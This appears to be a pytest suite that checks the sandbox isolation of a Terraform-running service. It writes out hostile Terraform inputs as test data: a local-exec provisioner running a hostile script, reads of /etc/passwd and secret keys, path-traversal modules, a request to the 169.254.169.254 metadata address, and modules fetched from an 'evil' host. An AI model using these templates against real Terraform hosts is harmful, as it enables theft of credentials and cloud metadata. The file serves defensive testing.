"""A template that is an enemy, carried out by the real Terraform for a sandbox and for a real account (attacks 1, 2, 3).

What it runs is behind walls and gets nothing. `TERRACE_ISOLATION=off` shows that each attempt would succeed without them.
"""

from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import replace
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from portal.kit.config import PROJECT_DIR, settings
from portal.run.lifecycle import PhaseName
from tests.service.run import world
from tests.worker.scene import Scene
from tests.worker.state_server import StateServer
from tests.worker.walls import AZURE, need_walls
from worker import executor
from worker.terraform import workdir

SCRIPT = Path(__file__).with_name("hostile.py")
HOSTILE = """
resource "terraform_data" "enemy" {
  input = 1

  provisioner "local-exec" {
    command     = file("${path.module}/hostile.py")
    interpreter = [%s, "-IS", "-c"]
    environment = { PYTHONDONTWRITEBYTECODE = "1" }
    quiet       = true
  }
}
"""
NEVER = {
    "environments": "canary-environ",
    "key": "canary-key",
    "other run": "canary-other",
    "work": "run-other-1",
    "templates": "azure",
    "passwords": "root:",
    "database": "reached",
    "redis": "reached",
    "metadata": "reached",
    "database by proxy": "reached",
    "redis by proxy": "reached",
    "metadata by proxy": "reached",
    "daemon by proxy": "reached",
    "portal": "healthy",
    "real metadata": "reached",
    "own token": "rt_",
    "root": "None",
}
"""Attempt → what its success would look like."""


@pytest.fixture(params=["sandbox", "live"])
def mode(request: pytest.FixtureRequest) -> str:
    return request.param


@contextmanager
def listening() -> Iterator[str]:
    """A server on the loopback, as a metadata service of this machine could be; its address."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield "{}:{}".format(*server.getsockname()[:2])


def place_of(url: str | None) -> str:
    """Host and port, or the path of a unix socket."""
    place = urlsplit(url or "")
    folder = parse_qs(place.query).get("host", [""])[0]
    if folder.startswith("/"):
        return f"{folder}/.s.PGSQL.{place.port or 5432}"
    return place.path if place.scheme == "unix" else f"{place.hostname}:{place.port or 5432}"


def carried_out(run_id: str, phase: PhaseName, mode: str) -> None:
    """Be a worker; in live mode the account is one of a real cloud."""
    job = world.claim(run_id, phase, worker="worker@test")
    assert job is not None
    executor.carry_out(replace(job, account=AZURE) if mode == "live" else job)


def attempts(people: world.World, state: StateServer, mode: str) -> dict[str, str]:
    """What each attempt of the hostile program got, during an apply."""
    data = settings().data_dir
    root = workdir.root_for(data)
    (root / "run-other-1" / "module").mkdir(parents=True)
    (root / "run-other-1" / "module" / "values").write_text("canary-other")
    data.mkdir(exist_ok=True)
    (data / "secret.key").write_text("canary-key")
    with ExitStack() as held:
        worker = held.enter_context(
            subprocess.Popen(["sleep", "600"], env={"CANARY": "canary-environ", "PATH": "/bin:/usr/bin"})
        )
        held.callback(worker.kill)
        targets = {
            "key": str(data / "secret.key"), "other_run": str(root / "run-other-1" / "module" / "values"), "work": str(root),
            "templates": str(PROJECT_DIR / "templates"), "database": place_of(settings().database_url),
            "redis": place_of(settings().redis_url), "metadata": held.enter_context(listening()),
            "portal": f"{state.url}/api/v1/state/other", "daemon": str(settings().sandbox_socket),
        }  # fmt: skip
        script = SCRIPT.read_text().replace("json.loads(sys.argv[1])", repr(targets))
        files = {"main.tf": (HOSTILE % json.dumps(sys.executable)).encode(), "hostile.py": script.encode()}
        scene = Scene(people, files, {})
        run_id = scene.run()
        carried_out(run_id, "plan", mode)
        scene.confirm(run_id)
        carried_out(run_id, "apply", mode)
    story = scene.story(run_id)
    assert scene.view(run_id).status == "applied", story
    found = [json.loads(line) for line in re.findall(r'GOT (\["[^\]]*\])', story)]
    assert found[-1][0] == "end", story
    return {attempt: plain(got) for attempt, got in found}


def plain(got: str) -> str:
    """A secret of the run is masked in hexadecimal, too; then the attempt had it."""
    try:
        return bytes.fromhex(got).decode()
    except ValueError:
        return f"rt_ {got}"


@need_walls
def test_a_hostile_template_gets_nothing(people: world.World, state: StateServer, mode: str) -> None:
    found = attempts(people, state, mode)
    assert set(NEVER) <= set(found)
    assert {attempt: found[attempt] for attempt, success in NEVER.items() if success in found[attempt]} == {}


FUNCTIONS = """
locals {{
  seen = concat(
    [for path in ["{key}", "../../../secret.key"] : fileexists(path)],
    [length(fileset("{data}", "**.key")) > 0, length(fileset("../..", "**/values")) > 0],
  )
}}
output "seen" {{ value = local.seen }}
"""


@need_walls
def test_functions_that_read_files_find_none_of_ours(people: world.World, mode: str) -> None:
    data = settings().data_dir
    data.mkdir(exist_ok=True)
    (data / "secret.key").write_text("canary-key")
    (workdir.root_for(data) / "run-other-1").mkdir(parents=True)
    (workdir.root_for(data) / "run-other-1" / "values").write_text("canary-other")
    scene = Scene(people, {"main.tf": FUNCTIONS.format(key=data / "secret.key", data=data).encode()}, {})
    run_id = scene.run()
    carried_out(run_id, "plan", mode)
    scene.confirm(run_id)
    carried_out(run_id, "apply", mode)
    assert scene.outputs() == {"seen": [False, False, False, False]}, scene.story(run_id)


READS = {
    "file": 'output "x" {{ value = file("{key}") }}',
    "templatefile": 'output "x" {{ value = templatefile("{key}", {{}}) }}',
    "filebase64": 'output "x" {{ value = filebase64("{key}") }}',
    "state": 'data "terraform_remote_state" "x" {{\n  backend = "local"\n  config  = {{ path = "{key}" }}\n}}\n'
    'output "x" {{ value = data.terraform_remote_state.x.outputs }}',
    "module above": 'module "x" {{\n  source = "../../run-other-1"\n}}',
    "module elsewhere": 'module "x" {{\n  source = "{other}"\n}}',
}


@pytest.mark.parametrize("attempt", READS)
@need_walls
def test_what_is_not_the_templates_own_is_not_there(people: world.World, attempt: str) -> None:
    data = settings().data_dir
    data.mkdir(exist_ok=True)
    key = data / "secret.key"
    key.write_text('{"version": 4, "terraform_version": "1.0.0", "serial": 1, "lineage": "x", "outputs": {"canary": '
                   '{"value": "canary-key", "type": "string"}}, "resources": []}')  # fmt: skip
    other = workdir.root_for(data) / "run-other-1"
    other.mkdir(parents=True)
    (other / "main.tf").write_text('output "canary" { value = "canary-other" }')
    scene = Scene(people, {"main.tf": READS[attempt].format(key=key, other=other).encode()}, {})
    run_id = scene.planned()
    assert scene.view(run_id).status == "errored", scene.story(run_id)
    assert "canary-" not in scene.story(run_id)


REFUSED = {
    "external": 'data "external" "x" {\n  program = ["cat", "/etc/passwd"]\n}',
    "http": 'data "http" "x" {\n  url = "http://169.254.169.254/"\n}',
    "local": 'data "local_file" "x" {\n  filename = "/etc/passwd"\n}',
    "null": 'resource "null_resource" "x" {}',
    "typo": 'terraform {\n  required_providers {\n    azurerm = { source = "hashicrop/azurerm" }\n  }\n}\nprovider "azurerm" {}',
    "git": 'module "x" {\n  source = "git::https://example.test/evil.git"\n}',
    "archive": 'module "x" {\n  source = "https://example.test/evil.zip"\n}',
    "registry": 'module "x" {\n  source = "Azure/naming/azurerm"\n}',
}


@pytest.mark.parametrize("attempt", REFUSED)
def test_in_the_sandbox_other_providers_and_modules_from_outside_are_an_error_with_a_sentence(
    people: world.World, attempt: str
) -> None:
    """Attacks 3 and 35: there is no way to a registry, a repository or an archive."""
    scene = Scene(people, {"main.tf": REFUSED[attempt].encode()}, {})
    run_id = scene.planned()
    view = scene.view(run_id)
    assert (view.status, bool(view.error and view.error.summary)) == ("errored", True), scene.story(run_id)
